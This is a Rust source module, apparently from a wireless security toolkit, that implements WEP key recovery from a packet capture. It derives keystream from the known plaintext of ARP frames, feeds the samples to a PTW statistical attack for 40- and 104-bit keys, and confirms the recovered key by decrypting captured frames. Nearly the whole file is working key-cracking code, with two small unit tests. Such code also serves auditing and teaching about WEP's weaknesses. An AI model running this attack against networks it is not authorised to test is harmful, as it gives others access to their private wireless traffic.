//! Key recovery from a whole capture: ARP frames give 16 bytes of known
//! plaintext, hence keystream samples for the statistical attack.

use std::collections::BTreeMap;

use serde::Serialize;

use super::ptw::{ptw_crack, PtwSample, SearchBudget, KEYSTREAM_SAMPLE_LEN};
use super::wep::{recover_keystream, wep_decrypt, WepFrame, WepKey, ICV_LEN};
use super::WepError;
use crate::captureio::CaptureRecord;
use crate::linkproto::{parse_dot11, Dot11Frame, ARP_MSDU_LEN};

const VERIFY_FRAMES: usize = 100;

/// LLC/SNAP header plus the fixed ARP fields up to and including the
/// opcode. Requests go to broadcast, replies are unicast.
pub fn arp_known_plaintext(request: bool) -> [u8; KEYSTREAM_SAMPLE_LEN] {
    [
        0xaa,
        0xaa,
        0x03,
        0x00,
        0x00,
        0x00,
        0x08,
        0x06,
        0x00,
        0x01,
        0x08,
        0x00,
        0x06,
        0x04,
        0x00,
        if request { 0x01 } else { 0x02 },
    ]
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CrackReport {
    pub key: WepKey,
    pub data_frames: usize,
    pub arp_frames: usize,
    /// Distinct IVs among the ARP frames.
    pub samples: usize,
    pub verified_frames: usize,
}

fn protected_bodies(capture: &[CaptureRecord]) -> Vec<(bool, WepFrame)> {
    capture
        .iter()
        .filter(|r| !r.is_decrypted())
        .filter_map(|r| match parse_dot11(&r.frame) {
            Dot11Frame::Data { header, body } if header.protected => {
                WepFrame::from_bytes(&body).ok().map(|f| (header.dst.is_broadcast(), f))
            }
            _ => None,
        })
        .collect()
}

/// Keystream samples from ARP-sized frames, one per IV (first wins).
pub fn extract_samples(capture: &[CaptureRecord]) -> Result<Vec<PtwSample>, WepError> {
    let frames = protected_bodies(capture);
    if frames.is_empty() {
        return Err(WepError::InsufficientSamples(
            "capture has no encrypted data frames".into(),
        ));
    }
    let mut by_iv = BTreeMap::new();
    for (broadcast, f) in &frames {
        if f.ciphertext.len() != ARP_MSDU_LEN + ICV_LEN {
            continue;
        }
        let ks = recover_keystream(f, &arp_known_plaintext(*broadcast))?;
        by_iv.entry(f.iv).or_insert_with(|| PtwSample {
            iv: f.iv,
            keystream: ks.try_into().expect("16-byte template"),
        });
    }
    if by_iv.is_empty() {
        return Err(WepError::NoArpTemplateMatch);
    }
    Ok(by_iv.into_values().collect())
}

/// Recovers the network key from a raw capture. 40-bit keys are tried
/// first, then 104-bit. The winner must also pass the ICV check on a
/// spread of captured data frames.
pub fn crack_session(capture: &[CaptureRecord], budget: SearchBudget) -> Result<CrackReport, WepError> {
    let samples = extract_samples(capture)?;
    let frames = protected_bodies(capture);
    let arp_frames = frames
        .iter()
        .filter(|(_, f)| f.ciphertext.len() == ARP_MSDU_LEN + ICV_LEN)
        .count();
    let stride = (frames.len() / VERIFY_FRAMES).max(1);
    let check: Vec<&WepFrame> = frames
        .iter()
        .step_by(stride)
        .take(VERIFY_FRAMES)
        .map(|(_, f)| f)
        .collect();

    let mut last_err = WepError::NotFoundWithinBudget { tried: 0 };
    for key_len in [WepKey::LEN_40, WepKey::LEN_104] {
        let candidates = match ptw_crack(&samples, key_len, budget) {
            Ok(c) => c,
            Err(e) => {
                last_err = e;
                continue;
            }
        };
        for key in candidates {
            let ok = check.iter().filter(|f| wep_decrypt(&key, f).is_ok()).count();
            // Allow a little foreign traffic in the sample.
            if ok * 10 >= check.len() * 9 {
                return Ok(CrackReport {
                    key,
                    data_frames: frames.len(),
                    arp_frames,
                    samples: samples.len(),
                    verified_frames: ok,
                });
            }
        }
    }
    Err(last_err)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_plaintext_matches_arp_encoding() {
        use crate::linkproto::{arp_msdu, ArpOp, ArpPacket, MacAddr};
        use std::net::Ipv4Addr;
        for (op, req) in [(ArpOp::Request, true), (ArpOp::Reply, false)] {
            let m = arp_msdu(&ArpPacket {
                op,
                sender_mac: MacAddr([1; 6]),
                sender_ip: Ipv4Addr::new(192, 168, 2, 2),
                target_mac: MacAddr::ZERO,
                target_ip: Ipv4Addr::new(192, 168, 2, 1),
            });
            assert_eq!(m[..16], arp_known_plaintext(req));
            assert_eq!(m.len(), ARP_MSDU_LEN);
        }
    }

    #[test]
    fn empty_capture_is_insufficient() {
        assert!(matches!(
            crack_session(&[], SearchBudget::default()),
            Err(WepError::InsufficientSamples(_))
        ));
    }
}
